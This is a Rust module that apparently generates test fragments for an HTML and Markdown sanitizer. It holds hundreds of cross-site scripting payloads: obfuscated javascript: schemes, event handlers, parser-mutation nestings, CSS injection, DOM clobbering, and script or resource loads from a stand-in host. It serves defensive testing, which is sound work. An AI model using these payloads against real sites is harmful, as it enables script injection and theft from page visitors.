//! Fragments of HTML and Markdown that try to run a script, reach another host or cover the page.
//!
//! They are combined from lists, so that each trick is tried in each place where it could work. A
//! script that runs calls `alert` or sets [`GLOBAL`]; a fragment that loads something requests it
//! from [`HOST`].

use super::sign_fragments;

/// A global that only a script in a post would create.
pub(crate) const GLOBAL: &str = "hostileGlobal";

/// A host that must never receive a request.
pub(crate) const HOST: &str = "https://foreign.invalid";

/// A script.
pub(super) const SCRIPT: &str = "window.hostileGlobal=1;alert(1)";

/// An element that runs a script as soon as a browser parses it.
pub(super) const RUNS: &str = "<img src=x onerror=window.hostileGlobal=1;alert(1)>";

/// A named group of fragments.
pub(crate) struct Group {
    pub(crate) name: &'static str,
    pub(crate) fragments: Vec<String>,
}

/// Returns all groups.
pub(crate) fn groups() -> Vec<Group> {
    let group = |name, fragments| Group { name, fragments };
    vec![
        group("scripts", scripts()),
        group("handlers", handlers()),
        group("addresses", addresses()),
        group("loads", loads()),
        group("mutations", mutations()),
        group("nested-twice", nested_twice()),
        group("endings", endings()),
        group("styles", styles()),
        group("names", clobbering()),
        group("classes", classes()),
        group("sizes", sizes()),
        group("sign-sizes", sign_fragments::sizes()),
        group("formulas", sign_fragments::formulas()),
        group("signs", sign_fragments::signs()),
    ]
}

fn scripts() -> Vec<String> {
    let mut found = Vec::new();
    let names = [
        "script",
        "SCRIPT",
        "ScRiPt",
        "svg:script",
        "script/x",
        "script\t",
    ];
    for name in names {
        let end = name.trim_end_matches(['/', 'x', '\t']);
        found.push(format!("<{name}>{SCRIPT}</{end}>"));
        found.push(format!("<{name} src={HOST}/a.js></{end}>"));
        found.push(format!(
            "<{name} src=data:text/javascript,{SCRIPT}></{end}>"
        ));
        found.push(format!("<{name} type=module>{SCRIPT}</{end} >"));
        found.push(format!("<svg><{name}>{SCRIPT}</{end}></svg>"));
        found.push(format!("<svg><{name} href={HOST}/a.js /></svg>"));
        found.push(format!("<math><{name}>{SCRIPT}</{end}></math>"));
        found.push(format!("<table><{name}>{SCRIPT}</{end}></table>"));
        found.push(format!("<select><{name}>{SCRIPT}</{end}></select>"));
        found.push(format!("<scr<{name}>ipt>{SCRIPT}</{end}>"));
        found.push(format!("<<{name}>{SCRIPT}//<</{end}>"));
        found.push(format!("<{name}>{SCRIPT}"));
    }
    found
}

/// Combines elements, separators, handlers and quotes.
fn handlers() -> Vec<String> {
    let elements = [
        "img src=x",
        "svg",
        "body",
        "a href=/",
        "div",
        "details open",
        "video",
        "audio src=x",
        "input autofocus",
        "marquee",
        "td",
        "x-y",
        "math",
        "iframe",
        "object",
        "button",
        "h2",
    ];
    let separators = [" ", "/", "\t", "\n", "\u{c}", " / "];
    let names = [
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onpointerenter",
        "ONERROR",
        "OnLoad",
        "onanimationstart",
        "onbegin",
        "onpageshow",
        "on",
        "onx",
    ];
    let quotes = [("", ""), ("\"", "\""), ("'", "'"), ("`", "`"), ("=", "")];
    let mut found = Vec::new();
    let mut names = names.iter().cycle();
    for element in elements {
        for separator in separators {
            for (open, close) in quotes {
                let name = names.next().expect("a cycle has no end");
                found.push(format!(
                    "<{element}{separator}{name}={open}{SCRIPT}{close}>x"
                ));
            }
        }
        let name = names.next().expect("a cycle has no end");
        found.push(format!("<{element} title=\"a\"{name}={SCRIPT}>x"));
        found.push(format!(
            "<{element} title='\"><{element} {name}={SCRIPT}>'>x"
        ));
        found.push(format!("<{element} {name}\n=\n{SCRIPT}>x"));
        found.push(format!("<{element} class=\"a\u{0} {name}={SCRIPT}\">x"));
    }
    found
}

/// Returns addresses that are a script, a document or a file, in every spelling that a browser may
/// accept.
pub(crate) fn schemes() -> Vec<String> {
    let script = SCRIPT;
    let mut found: Vec<String> = [
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\u{1}javascript:",
        "java\u{0}script:",
        "&#106;avascript:",
        "&#x6A;avascript&colon;",
        "java&Tab;script:",
        "java&NewLine;script:",
        "javascript&#58;",
        "javascript&#0000058",
        "&#14;javascript:",
        "javascript\u{3a}",
        "\u{feff}javascript:",
        "feed:javascript:",
        "view-source:javascript:",
        "javascript&colon;",
        "&#32;javascript:",
        "livescript:",
        "vbscript:",
        "mocha:",
        "jar:javascript:",
    ]
    .iter()
    .map(|scheme| format!("{scheme}{script}"))
    .collect();
    found.extend([
        format!("data:text/html,<script>{script}</script>"),
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==".to_owned(),
        format!("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{script}'/>"),
        format!("DATA:application/xhtml+xml,{script}"),
        format!("blob:{HOST}/x"),
        "file:///etc/passwd".to_owned(),
        "filesystem:http://127.0.0.1/temporary/x".to_owned(),
        "ws://127.0.0.1:9/".to_owned(),
        "chrome://version".to_owned(),
        "about:blank".to_owned(),
        "intent:x".to_owned(),
    ]);
    found
}

/// Combines every attribute that takes an address with every such address.
fn addresses() -> Vec<String> {
    let places = [
        "<a href=\"@\">x</a>",
        "<a href='@'>x</a>",
        "<a href=@>x</a>",
        "<img src=\"@\">",
        "<img srcset=\"@ 1x\">",
        "<img src=/favicon.svg longdesc=\"@\" usemap=\"@\">",
        "<area href=\"@\">",
        "<form action=\"@\"><input type=submit></form>",
        "<button formaction=\"@\">x</button>",
        "<input type=image src=\"@\">",
        "<video poster=\"@\" src=\"@\"></video>",
        "<source srcset=\"@\">",
        "<object data=\"@\"></object>",
        "<embed src=\"@\">",
        "<iframe src=\"@\"></iframe>",
        "<frameset><frame src=\"@\"></frameset>",
        "<body background=\"@\">",
        "<table background=\"@\"><tr><td background=\"@\">x</table>",
        "<link rel=stylesheet href=\"@\">",
        "<base href=\"@\">",
        "<blockquote cite=\"@\">x</blockquote>",
        "<q cite=\"@\">x</q>",
        "<del cite=\"@\">x</del>",
        "<a ping=\"@\" href=/>x</a>",
        "<svg><a xlink:href=\"@\"><text>x</text></a></svg>",
        "<svg><use href=\"@#x\"/></svg>",
        "<svg><image href=\"@\"/></svg>",
        "<svg><a><animate attributeName=href values=\"@\"/></a></svg>",
        "<svg><set attributeName=onmouseover to=\"@\"/></svg>",
        "<math href=\"@\"><mi>x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=\"@\">x",
        "<meta http-equiv=refresh content=\"0;url=@\">",
        "<html manifest=\"@\">",
        "<applet codebase=\"@\" code=x></applet>",
        "<isindex action=\"@\">",
        "<bgsound src=\"@\">",
        "<track src=\"@\">",
        "<portal src=\"@\"></portal>",
        // Markdown.
        "[x](@)",
        "[x](<@>)",
        "[x](@ \"@\")",
        "![x](@)",
        "![x](<@>)",
        "<@>",
        "[![x](@)](@)",
    ];
    let mut found = Vec::new();
    for place in places {
        for scheme in schemes() {
            // In Markdown, a space ends a destination without angle brackets.
            let scheme = scheme.replace('"', "&quot;");
            found.push(place.replace('@', &scheme));
        }
    }
    found
}

/// Returns fragments that load something from another host without a script.
fn loads() -> Vec<String> {
    [
        "<link rel=stylesheet href=@/a.css>",
        "<link rel=prefetch href=@/a>",
        "<link rel=preload as=script href=@/a.js>",
        "<link rel=dns-prefetch href=@>",
        "<link rel=modulepreload href=@/a.js>",
        "<link rel=icon href=@/a.ico>",
        "<link rel=import href=@/a>",
        "<link rel=manifest href=@/a>",
        "<style>@import url(@/a.css);</style>",
        "<style>body{background:url(@/a.png)}</style>",
        "<p style=\"background:url(@/a.png)\">x</p>",
        "<iframe src=@/a></iframe>",
        "<iframe srcdoc=\"<img src=@/a>\"></iframe>",
        "<object data=@/a.swf></object>",
        "<embed src=@/a.swf>",
        "<video src=@/a.mp4 poster=@/poster.png></video>",
        "<audio src=@/a.mp3 autoplay></audio>",
        "<input type=image src=@/a.png>",
        "<body background=@/a.png>",
        "<table background=@/a.png><tr><td>x</table>",
        "<meta http-equiv=refresh content=\"0;url=@/a\">",
        "<meta http-equiv=Set-Cookie content=a>",
        "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
        "<meta name=referrer content=unsafe-url>",
        "<base href=@/>",
        "<base target=_top>",
        "<form action=@/a id=f><input name=q autofocus></form><button form=f>x</button>",
        "<form><button formaction=@/a>x</button></form>",
        "<textarea form=f>x</textarea>",
        "<svg><image href=@/a.png /></svg>",
        "<svg><use href=@/a.svg#x /></svg>",
        "<svg><style>@import url(@/a.css)</style></svg>",
        "<svg><filter id=f><feImage href=@/a.png /></filter></svg>",
        "<math><mi href=@/a>x</mi></math>",
        "<img srcset=\"@/a.png 1x, @/b.png 2x\">",
        "<picture><source srcset=@/a.png></picture>",
        "<track src=@/a.vtt>",
        "<script async src=@/a.js></script>",
        "<portal src=@/a></portal>",
        "<fencedframe src=@/a></fencedframe>",
        "<frameset><frame src=@/a></frameset>",
        "<noscript><img src=@/a></noscript>",
        "<template><img src=@/a></template>",
        "<template shadowrootmode=open><img src=@/a></template>",
        "<dialog open><iframe src=@/a></iframe></dialog>",
        "<xml src=@/a></xml>",
        "<!--[if IE]><img src=@/a><![endif]-->",
        "<?xml-stylesheet href=\"@/a.css\"?>",
        "<!DOCTYPE html SYSTEM \"@/a.dtd\">",
        "<applet code=a codebase=@/></applet>",
    ]
    .iter()
    .map(|fragment| {
        // Protect the `@` of `@import` while the other `@` is replaced by the host.
        let fragment = fragment.replace("@import", "\u{1}");
        fragment.replace('@', HOST).replace('\u{1}', "@import")
    })
    .collect()
}

/// Elements that HTML parsers treat in a special way.
const SPECIAL: [(&str, &str); 22] = [
    ("<noscript>", "</noscript>"),
    ("<style>", "</style>"),
    ("<template>", "</template>"),
    ("<math>", "</math>"),
    ("<svg>", "</svg>"),
    ("<textarea>", "</textarea>"),
    ("<title>", "</title>"),
    ("<xmp>", "</xmp>"),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<iframe>", "</iframe>"),
    ("<select>", "</select>"),
    ("<table>", "</table>"),
    ("<option>", "</option>"),
    ("<!--", "-->"),
    ("<![CDATA[", "]]>"),
    (
        "<math><annotation-xml encoding=\"text/html\">",
        "</annotation-xml></math>",
    ),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<mglyph>", "</mglyph>"),
    ("<form>", "</form>"),
];

/// Nests each of [`SPECIAL`] in each other, around a fragment that runs if the filter and the
/// browser disagree about its place.
fn mutations() -> Vec<String> {
    let mut found = Vec::new();
    for (outer, outer_end) in SPECIAL {
        for (inner, inner_end) in SPECIAL {
            found.push(format!("{outer}{inner}{RUNS}{inner_end}{outer_end}"));
            found.push(format!(
                "{outer}<p title=\"{inner_end}{outer_end}{RUNS}\">{inner}"
            ));
            found.push(format!(
                "{outer}{inner}<a title=\"{outer_end}{RUNS}\">x</a>{inner_end}"
            ));
        }
    }
    found
}

/// Does the same around a table and a form, which parsers move, and with end tags that have no
/// start tag.
fn nested_twice() -> Vec<String> {
    let mut found = Vec::new();
    for (outer, outer_end) in SPECIAL {
        for (inner, inner_end) in SPECIAL {
            found.push(format!(
                "<form>{outer}</form><form>{inner}<table><mglyph><style><!--</style>\
                 <img title=\"--&gt;{inner_end}{outer_end}&lt;img src=x onerror={SCRIPT}&gt;\">"
            ));
            found.push(format!(
                "</p>{outer_end}<br></br>{outer}</p>{inner}</table>{RUNS}"
            ));
        }
    }
    found
}

/// Returns ends of comments, tags, quotes and sections in every place.
fn endings() -> Vec<String> {
    let ends = [
        "-->",
        "--!>",
        "<!-->",
        "<!--->",
        "<!--",
        "]]>",
        "<![CDATA[",
        "</script>",
        "</style>",
        "</title>",
        "</textarea>",
        "</head>",
        "</body>",
        "</html>",
        "</main></article>",
        "\">",
        "'>",
        "`>",
        "/>",
        "<?",
        "?>",
        "<%",
        "%>",
        "</p title=\"",
        "</a/",
        "&lt;script&gt;",
        "\u{0}>",
    ];
    let mut found = Vec::new();
    for end in ends {
        found.push(format!("{end}{RUNS}"));
        found.push(format!("<p title=\"{end}{RUNS}\">x</p>"));
        found.push(format!("<a href='/' title='{end}{RUNS}'>x</a>"));
        found.push(format!("<!-- {end}{RUNS} -->"));
        found.push(format!("<img alt=\"{end}{RUNS}\" src=/favicon.svg>"));
        found.push(format!("[x](/ \"{end}{RUNS}\")"));
        found.push(format!("![{end}{RUNS}](/favicon.svg '{end}{RUNS}')"));
        found.push(format!("`{end}{RUNS}`"));
        found.push(format!("${end}{RUNS}$"));
        found.push(format!("<abbr title={end}{RUNS}>x</abbr>"));
    }
    found
}

/// Returns content that is too wide, too tall or too deep for its place.
fn sizes() -> Vec<String> {
    let cells = |tag: &str| format!("<{tag}>unbreakable{}</{tag}>", "x".repeat(40)).repeat(60);
    let word = "w".repeat(3000);
    let mut found = vec![
        format!("<table><tr>{}</tr></table>", cells("th")),
        format!(
            "<table><caption>{word}</caption><tr><td><table><tr>{}</table></table>",
            cells("td")
        ),
        format!(
            "<div align=right><table><tbody><tr align=right>{}</table></div>",
            cells("td")
        ),
        "<img src=/favicon.svg width=54000 height=54000 align=left>".to_owned(),
        "<img src=/favicon.svg align=right>".repeat(30),
        format!("<p align=left><img src=/favicon.svg align=left>{word}</p>"),
        format!("{word} `{word}` [{word}](/) ${word}$ <kbd>{word}</kbd>"),
        format!("<pre>{word}</pre>"),
        format!("<ruby>{word}<rt>{word}</rt></ruby>"),
        format!("<details open><summary>{word}</summary>{word}</details>"),
        format!("<bdo dir=rtl>{word}</bdo><p dir=rtl>{word}</p>"),
        "<ol start=2147483647><li>x</ol><ol type=i start=3999><li>x</ol>".to_owned(),
        "<ol reversed start=-2147483648><li>x</ol>".to_owned(),
        "<blockquote>".repeat(60),
        "<ul><li>".repeat(30),
        "<dl><dd>".repeat(30),
        format!("a{}", "\u{301}\u{323}".repeat(300)),
        format!(
            "<sup>{}</sup>x<sub>{}</sub>",
            "<sup>".repeat(40),
            "<sub>".repeat(40)
        ),
        "&nbsp;".repeat(2000),
        "x\u{a0}".repeat(2000),
        "<br>".repeat(2000),
        "<hr>".repeat(200),
    ];
    found.push(format!("> {}x", "> ".repeat(80)));
    found.push(format!("{}x", "- ".repeat(80)));
    found.push(format!("|{}|\n|{}", "unbreakable".repeat(8), "-|"));
    found
}

/// Returns style sheets and attributes that cover the page, load something or run a script.
fn styles() -> Vec<String> {
    let rules = [
        "position:fixed;inset:0;z-index:99999;background:red",
        "width:expression(alert(1))",
        "background:url(javascript:alert(1))",
        "behavior:url(#default#time2)",
        "-moz-binding:url(https://foreign.invalid/x)",
        "list-style-image:url(https://foreign.invalid/a)",
        "color:red;\u{0}background:url(https://foreign.invalid/b)",
        "@import 'https://foreign.invalid/c'",
    ];
    let mut found = Vec::new();
    for rule in rules {
        found.push(format!("<div style=\"{rule}\">x</div>"));
        found.push(format!("<p STYLE='{rule}'>x</p>"));
        found.push(format!("<style>*{{{rule}}}</style>"));
        found.push(format!("<svg><style>*{{{rule}}}</style></svg>"));
        found.push(format!("<div/style={rule}>x</div>"));
        found.push(format!("## Heading {{style=\"{rule}\"}}"));
    }
    found
}

/// Returns ids and names that replace what scripts look for.
fn clobbering() -> Vec<String> {
    let names = [
        "location",
        "document",
        "window",
        "self",
        "top",
        "name",
        "history",
        "navigator",
        "body",
        "head",
        "forms",
        "cookie",
        "currentScript",
        "documentElement",
        "getElementById",
        "querySelector",
        "querySelectorAll",
        "createElement",
        "addEventListener",
        "localStorage",
        "matchMedia",
        "fetch",
        "URL",
        "Object",
        "constructor",
        "__proto__",
        "toString",
        "attributes",
        "pagefind",
        "theme",
        "dataset",
        "_main",
        "_status",
        "_results",
        "_more",
        "_pressrun-mark",
    ];
    let mut found = Vec::new();
    for name in names {
        found.push(format!("<a id=\"{name}\" name=\"{name}\" href=\"/\">x</a>"));
        found.push(format!("<img name={name} id={name} src=/favicon.svg>"));
        found.push(format!(
            "<form id={name} name={name}><input name={name}></form>"
        ));
        found.push(format!("<p id=\"{name}\" data-{name}=\"1\">x</p>"));
        found.push(format!("## {name} {{#{name} .{name}}}"));
        found.push(format!("[^{name}]\n\n[^{name}]: A note."));
    }
    found
}

/// Returns every class of the theme on an element of a post, which could imitate the frame of a
/// page.
fn classes() -> Vec<String> {
    let style = include_str!("../../../static/style.css");
    let mut names: Vec<&str> = style
        .split('.')
        .skip(1)
        .filter_map(|rest| {
            rest.split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
                .next()
        })
        .filter(|name| name.starts_with(|c: char| c.is_ascii_alphabetic()))
        .collect();
    names.sort_unstable();
    names.dedup();
    let mut found = Vec::new();
    for name in names {
        found.push(format!(
            "<div class=\"{name}\"><a href=\"/\" class=\"{name}\">x</a></div>"
        ));
        found.push(format!(
            "<details class=\"{name}\" open><summary>x</summary>y</details>"
        ));
        found.push(format!(
            "<nav class=\"{name}\" id=\"{name}\"><img class=\"{name}\" src=/x></nav>"
        ));
        found.push(format!("## x {{.{name} #{name}}}"));
    }
    found
}
